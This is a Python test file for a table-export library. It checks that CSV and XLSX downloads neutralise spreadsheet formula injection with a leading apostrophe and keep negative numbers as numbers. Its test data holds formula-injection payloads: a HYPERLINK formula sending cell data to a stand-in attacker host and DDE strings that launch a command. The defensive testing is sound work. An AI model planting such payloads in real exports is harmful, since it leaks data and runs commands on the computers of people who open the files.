"""CSV and XLSX downloads never hold a live formula: text starting with =, +, -, @, a tab or a
carriage return gets a leading apostrophe; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from ita.lib.tables import Column, Table, neutralise, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+66 75 289 689",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_leading_text_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-1.50", "+1.25", "-3", "องค์การบริหารส่วนตำบลสุโสะ", "", "a=b"])
def test_numbers_and_plain_text_are_unchanged(text: str) -> None:
    assert neutralise(text) == text


def _table() -> Table:
    return Table(
        key="t",
        title="=ตาราง",
        columns=[
            Column("name", "=ชื่อ"),
            Column("change", "change", kind="signed"),
            Column("total", "total", kind="score"),
        ],
        rows=[{"name": text, "change": "-1.5", "total": "-2"} for text in HOSTILE],
    )


def test_the_csv_holds_no_formula_and_keeps_negative_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_table(), bom=False), newline="")))
    assert rows[0][0] == "'=ชื่อ"
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        assert row == ["'" + text.replace("\r", "\n"), "-1.50", "-2.00"]


def test_the_xlsx_holds_no_formula_and_keeps_negative_numbers() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    assert sheet.cell(1, 1).value == "'=ชื่อ" and sheet.cell(1, 1).data_type == "s"
    for index, text in enumerate(HOSTILE, start=2):
        name = sheet.cell(index, 1)
        # (a carriage return comes back as written, or as a line feed where the XML writer
        # leaves it bare: either way the cell is text that begins with the apostrophe)
        assert name.data_type == "s"
        assert name.value in ("'" + text, "'" + text.replace("\r", "\n"))
        assert sheet.cell(index, 2).value == -1.5 and sheet.cell(index, 2).data_type == "n"
        assert sheet.cell(index, 3).value == -2.0
